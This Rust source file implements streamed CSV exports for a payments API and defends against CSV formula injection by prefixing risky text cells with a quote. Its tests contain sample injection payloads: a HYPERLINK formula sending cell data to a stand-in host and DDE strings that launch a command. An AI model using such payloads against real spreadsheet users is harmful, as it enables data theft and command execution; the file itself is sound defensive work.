//! CSV exports (`GET /api/payments.csv`, `/api/memberships.csv`, `/api/subscribers.csv`):
//! the rows a list shows, every page of them, as one RFC 4180 file written by the `csv` crate
//! (a header row, fields quoted when they need it, CRLF line ends).
//!
//! **No formulas.** A spreadsheet opening the file runs a cell that starts with `=`, `+`, `-`,
//! `@`, a tab or a carriage return as a formula, and buyers choose some of this text (a
//! Telegram display name `=HYPERLINK(...)`). Every text cell starting so is written with a
//! leading `'`, as OWASP's CSV injection advice says, in `encode`, which every export goes
//! through. A text cell is a field the API shows as a JSON string (names, usernames, gateway
//! references, statuses, times); numbers (amounts, ids, which may be negative) stay numbers,
//! written as JSON writes them, so a spreadsheet still adds them up.
//!
//! Streamed in constant memory: the rows are read by keyset pages of [`PAGE`] (the list's own
//! query, `id > after ORDER BY id`), each page on a pool connection taken for that page only,
//! encoded and handed to the response body before the next is read. A slow client therefore
//! holds no connection and the server at most one page, however many rows there are. The
//! first page is read before the answer starts, so a refused filter or an unavailable database
//! is still a proper 4xx/503; a failure after that ends the body early (the client sees a
//! truncated transfer) and is logged.
//!
//! Pages are separate statements, not one snapshot: a row added while the file is written
//! appears when its id is above the page being read (rows are never deleted from payments; a
//! membership or subscriber deleted meanwhile may be missing).

use std::future::Future;

use axum::{
    body::{Body, Bytes},
    http::header,
    response::{IntoResponse, Response},
};
use chrono::{DateTime, Utc};
use serde::Serialize;

use crate::common::error::ApiError;

/// Rows read and encoded at a time.
pub const PAGE: i64 = 1000;

/// Checks the `from`/`to` window every export takes (records created at or after `from` and
/// before `to`, RFC 3339): `from` after `to` is refused (422).
pub fn check_window(
    from: Option<DateTime<Utc>>,
    to: Option<DateTime<Utc>>,
) -> Result<(), ApiError> {
    match (from, to) {
        (Some(from), Some(to)) if from > to => {
            Err(ApiError::field("from", "must not be after `to`"))
        }
        _ => Ok(()),
    }
}

/// A JSON field as CSV text: a string as [`text_cell`] writes it, a number or boolean as
/// written in JSON, `null` as an empty field.
fn field_text(v: Option<&serde_json::Value>) -> String {
    match v {
        None | Some(serde_json::Value::Null) => String::new(),
        Some(serde_json::Value::String(s)) => text_cell(s),
        Some(other) => other.to_string(),
    }
}

/// The characters a spreadsheet takes as the start of a formula when a cell begins with them
/// (OWASP, "CSV Injection").
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text cell a spreadsheet shows as text: with a leading `'` when it starts with one of
/// [`FORMULA_STARTS`], as it is otherwise.
fn text_cell(s: &str) -> String {
    if s.starts_with(FORMULA_STARTS) {
        format!("'{s}")
    } else {
        s.to_string()
    }
}

/// Encodes `rows` as CSV records of the fields `columns` (each row as its JSON object, the
/// fields the API shows, by name), after the header row when `with_header`.
fn encode<T: Serialize>(
    columns: &[&str],
    with_header: bool,
    rows: &[T],
) -> Result<Bytes, ApiError> {
    let mut w = csv::WriterBuilder::new()
        .has_headers(false)
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::with_capacity(rows.len() * 128 + 256));
    let fail = |e: csv::Error| ApiError::internal(format!("CSV encoding failed: {e}"));
    if with_header {
        w.write_record(columns).map_err(fail)?;
    }
    for row in rows {
        let value = serde_json::to_value(row).map_err(ApiError::internal)?;
        w.write_record(columns.iter().map(|c| field_text(value.get(*c))))
            .map_err(fail)?;
    }
    w.into_inner()
        .map(Bytes::from)
        .map_err(|e| ApiError::internal(format!("CSV encoding failed: {e}")))
}

/// The next `after`, or `None` when `rows` was the last page.
fn next_after<T>(rows: &[T], id_of: fn(&T) -> i64) -> Option<i64> {
    if rows.len() < PAGE as usize {
        None
    } else {
        rows.last().map(id_of)
    }
}

/// The streamed CSV answer of `fetch` (the page of rows with ids above its argument, at most
/// [`PAGE`]), named `filename`, whose records have the columns `header` (fields of each row's
/// JSON, by name).
pub async fn csv<T, F, Fut>(
    filename: &'static str,
    header: &'static [&'static str],
    fetch: F,
    id_of: fn(&T) -> i64,
) -> Result<Response, ApiError>
where
    T: Serialize + Send + 'static,
    F: Fn(i64) -> Fut + Send + Sync + 'static,
    Fut: Future<Output = Result<Vec<T>, ApiError>> + Send + 'static,
{
    let first = fetch(0).await?;
    let head = encode(header, true, &first)?;
    let next = next_after(&first, id_of);
    drop(first);
    let rest = futures::stream::try_unfold((fetch, next), move |(fetch, next)| async move {
        let Some(after) = next else {
            return Ok(None);
        };
        let page = async {
            let rows = fetch(after).await?;
            Ok::<_, ApiError>((encode(header, false, &rows)?, next_after(&rows, id_of)))
        };
        match page.await {
            Ok((bytes, next)) => Ok(Some((bytes, (fetch, next)))),
            Err(e) => {
                tracing::error!(file = filename, after, error = %e,
                    "CSV export ended early: the client gets a truncated file");
                Err(std::io::Error::other(e.to_string()))
            }
        }
    });
    let body = futures::StreamExt::chain(
        futures::stream::once(async move { Ok::<_, std::io::Error>(head) }),
        rest,
    );
    Ok((
        [
            (
                header::CONTENT_TYPE,
                "text/csv; charset=utf-8; header=present".to_string(),
            ),
            (
                header::CONTENT_DISPOSITION,
                format!("attachment; filename=\"{filename}\""),
            ),
        ],
        Body::from_stream(body),
    )
        .into_response())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Serialize)]
    struct Row {
        id: i64,
        name: Option<String>,
        at: DateTime<Utc>,
    }

    #[test]
    fn records_follow_rfc_4180() {
        let at = DateTime::parse_from_rfc3339("2025-01-01T10:00:00Z")
            .unwrap()
            .with_timezone(&Utc);
        let rows = [
            Row {
                id: 1,
                name: Some("plain".into()),
                at,
            },
            Row {
                id: 2,
                name: Some("a \"quoted\", comma\nand line".into()),
                at,
            },
            Row {
                id: 3,
                name: None,
                at,
            },
        ];
        let bytes = encode(&["id", "name", "at"], true, &rows).unwrap();
        assert_eq!(
            std::str::from_utf8(&bytes).unwrap(),
            "id,name,at\r\n1,plain,2025-01-01T10:00:00Z\r\n\
             2,\"a \"\"quoted\"\", comma\nand line\",2025-01-01T10:00:00Z\r\n3,,2025-01-01T10:00:00Z\r\n"
        );
    }

    #[derive(Serialize)]
    struct Money {
        id: i64,
        name: String,
        amount_minor: i64,
    }

    /// The record of one row named `name` with an amount of -500, read back by a CSV reader.
    fn record_named(name: &str) -> Vec<String> {
        let row = Money {
            id: 1,
            name: name.to_string(),
            amount_minor: -500,
        };
        let bytes = encode(&["id", "name", "amount_minor"], false, &[row]).unwrap();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&bytes[..]);
        let record = reader.records().next().unwrap().unwrap();
        record.iter().map(str::to_string).collect()
    }

    /// One test per character a spreadsheet starts a formula with: the text cell gains a
    /// leading `'`, the number beside it stays a (negative) number.
    macro_rules! neutralised {
        ($($test:ident: $name:expr,)*) => {$(
            #[test]
            fn $test() {
                assert_eq!(record_named($name), ["1", &format!("'{}", $name), "-500"]);
            }
        )*};
    }

    neutralised! {
        a_text_cell_starting_with_equals_is_text: "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
        a_text_cell_starting_with_plus_is_text: "+1+cmd|' /C calc'!A0",
        a_text_cell_starting_with_minus_is_text: "-2+3+cmd|' /C calc'!A0",
        a_text_cell_starting_with_at_is_text: "@SUM(1+9)*cmd|' /C calc'!A0",
        a_text_cell_starting_with_a_tab_is_text: "\t=1+1",
        a_text_cell_starting_with_a_carriage_return_is_text: "\r=1+1",
    }

    #[test]
    fn other_text_and_numbers_stay_as_they_are() {
        for name in [
            "Ann",
            "",
            "1+1",
            " =1+1",
            "a=b",
            "'quoted",
            "infinity",
            "2025-01-01T10:00:00Z",
        ] {
            assert_eq!(record_named(name), ["1", name, "-500"], "{name:?}");
        }
    }
}
